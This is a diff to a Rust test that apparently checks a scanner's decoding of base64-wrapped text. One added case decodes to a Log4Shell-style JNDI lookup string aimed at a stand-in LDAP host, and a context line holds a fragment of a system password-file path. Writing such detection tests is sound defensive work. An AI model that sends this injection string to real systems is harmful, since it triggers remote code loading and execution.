@@ -126,6 +126,15 @@ fn texts_inside_texts_are_read_too() {
                 "/etc/pasw",
             ],
         ),
+        // JSON is read without its syntax; what only begins like it is not taken for it.
+        (
+            "eyJ1c2VyIjoiYTpiIiwibiI6WzEsdHJ1ZV19",
+            &["eyj1c2vyijoiytpiiiwibii6wzesdhj1zv19", " user a:b n 1 true "],
+        ),
+        (
+            "eyIiICR7am5kaTpsZGFwOi8veC5leGFtcGxlfQ==",
+            &["eyiiicr7am5katpszgfwoi8vec5legftcgxlfq==", "{\"\" ${jndi:ldap://x.example}"],
+        ),
         ("d41d8cd98f00b204e9800998ecf8427e", &["d41d8cd98f00b204e9800998ecf8427e"]),
         ("AnOrdinaryNameOfAClassInJava", &["anordinarynameofaclassinjava"]),
     ] {
